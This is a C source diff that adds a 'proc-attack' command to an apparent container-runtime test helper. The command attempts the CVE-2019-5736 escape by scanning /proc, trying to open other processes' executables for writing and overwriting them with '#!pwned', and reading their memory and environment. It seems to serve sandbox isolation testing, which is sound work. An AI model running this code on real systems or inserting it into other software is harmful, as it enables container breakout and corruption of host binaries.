@@ -12,6 +12,7 @@
 #include <grp.h>
 #include <limits.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -341,13 +342,144 @@ static int cmd_forkbomb(const char *count) {
   return 0;
 }
 
+/* `proc-attack SECONDS`: CVE-2019-5736 from inside a container. For SECONDS
+ * it scans /proc for other processes (a runtime's init waiting in a shared
+ * pid namespace) and tries to reach their executable and memory: open
+ * /proc/PID/exe for writing; open it O_PATH and reopen /proc/self/fd/N for
+ * writing, retried on every pass (the binary stops being busy once its user
+ * execs something else); open /proc/PID/mem and read /proc/PID/environ.
+ * Prints "PID COMM WHAT=ok|errno" once per pid and attempt, "scanned" after
+ * the first pass, "WROTE PID" when it wrote into an executable, and "done"
+ * at the end. */
+#define ATTACK_MAX_PIDS 64
+#define ATTACK_KINDS 5
+struct attack_target {
+  int pid;
+  int exe_path_fd;
+  int reopen_errno;       /* why the last reopen for writing failed */
+  bool wrote;             /* once is enough */
+  int last[ATTACK_KINDS]; /* last result reported: 0 ok, errno, -1 none */
+};
+
+/* Prints a result when it differs from the last one for this pid and
+ * attempt (a process's executable changes when it execs). */
+static void attack_report(struct attack_target *t, int kind, const char *what,
+                          int ok, int error) {
+  int result = ok ? 0 : error;
+  if (t->last[kind] == result)
+    return;
+  t->last[kind] = result;
+  char path[64], comm[64] = "?";
+  snprintf(path, sizeof path, "/proc/%d/comm", t->pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd >= 0) {
+    ssize_t n = read(fd, comm, sizeof comm - 1);
+    comm[n > 0 ? n : 0] = '\0';
+    comm[strcspn(comm, "\n")] = '\0';
+    close(fd);
+  }
+  if (ok)
+    printf("%d %s %s=ok\n", t->pid, comm, what);
+  else
+    printf("%d %s %s=errno %d (%s)\n", t->pid, comm, what, error,
+           strerror(error));
+  fflush(stdout);
+}
+
+static void attack_write(struct attack_target *t, int fd, int kind,
+                         const char *what) {
+  if (fd < 0) {
+    attack_report(t, kind, what, 0, errno);
+    return;
+  }
+  attack_report(t, kind, what, 1, 0);
+  if (!t->wrote && pwrite(fd, "#!pwned\n", 8, 0) == 8) {
+    t->wrote = true;
+    printf("WROTE %d\n", t->pid);
+    fflush(stdout);
+  }
+  close(fd);
+}
+
+static void attack_one(struct attack_target *t) {
+  char path[64];
+  snprintf(path, sizeof path, "/proc/%d/exe", t->pid);
+  attack_write(t, open(path, O_WRONLY | O_CLOEXEC), 0, "exe-write");
+  if (t->exe_path_fd < 0) {
+    t->exe_path_fd = open(path, O_PATH | O_CLOEXEC);
+    attack_report(t, 1, "exe-path", t->exe_path_fd >= 0, errno);
+  }
+  if (t->exe_path_fd >= 0) {
+    snprintf(path, sizeof path, "/proc/self/fd/%d", t->exe_path_fd);
+    int fd = open(path, O_WRONLY | O_CLOEXEC);
+    /* Busy now may be writable later: report only success or the end. */
+    if (fd >= 0)
+      attack_write(t, fd, 2, "exe-reopen-write");
+    else
+      t->reopen_errno = errno;
+  }
+  snprintf(path, sizeof path, "/proc/%d/mem", t->pid);
+  int fd = open(path, O_RDONLY | O_CLOEXEC);
+  attack_report(t, 3, "mem", fd >= 0, errno);
+  if (fd >= 0)
+    close(fd);
+  snprintf(path, sizeof path, "/proc/%d/environ", t->pid);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  char buf[256];
+  ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;
+  attack_report(t, 4, "environ", n > 0, n == 0 ? ENODATA : errno);
+  if (fd >= 0)
+    close(fd);
+}
+
+static int cmd_proc_attack(const char *seconds) {
+  struct attack_target targets[ATTACK_MAX_PIDS];
+  size_t n = 0;
+  time_t end = time(NULL) + atoi(seconds);
+  bool first = true;
+  do {
+    DIR *d = opendir("/proc");
+    if (d == NULL)
+      return fail("proc-attack", "/proc");
+    struct dirent *de;
+    while ((de = readdir(d)) != NULL) {
+      int pid = atoi(de->d_name);
+      if (pid <= 0 || pid == getpid())
+        continue;
+      size_t i = 0;
+      while (i < n && targets[i].pid != pid)
+        i++;
+      if (i == n) {
+        if (n == ATTACK_MAX_PIDS)
+          continue;
+        targets[n++] = (struct attack_target){
+            .pid = pid, .exe_path_fd = -1, .last = {-1, -1, -1, -1, -1}};
+      }
+      attack_one(&targets[i]);
+    }
+    closedir(d);
+    if (first)
+      printf("scanned\n");
+    fflush(stdout);
+    first = false;
+    usleep(1000);
+  } while (time(NULL) < end);
+  for (size_t i = 0; i < n; i++)
+    if (targets[i].exe_path_fd >= 0)
+      attack_report(&targets[i], 2, "exe-reopen-write", 0,
+                    targets[i].reopen_errno);
+  printf("done\n");
+  return 0;
+}
+
 static int usage(void) {
   fprintf(stderr,
           "usage: hull-test-helper cat FILE | write FILE TEXT | ns | cwd | id"
           " | hostname | domainname | mounts | isatty FD | sleep SECONDS"
           " | exit CODE | env | status | ls DIR | stat PATH | readlink PATH"
           " | fds | pid | signal-wait | touch PATH | clock"
-          " | syscall NAME|NR [ARG...] | memhog MB | forkbomb N\n");
+          " | syscall NAME|NR [ARG...] | memhog MB | forkbomb N"
+          " | proc-attack SECONDS\n");
   return 2;
 }
 
@@ -411,6 +543,8 @@ int main(int argc, char **argv) {
     r = cmd_forkbomb(arg);
   else if (strcmp(cmd, "syscall") == 0 && arg)
     r = cmd_syscall(argc - 2, argv + 2);
+  else if (strcmp(cmd, "proc-attack") == 0 && arg)
+    r = cmd_proc_attack(arg);
   else
     return usage();
 
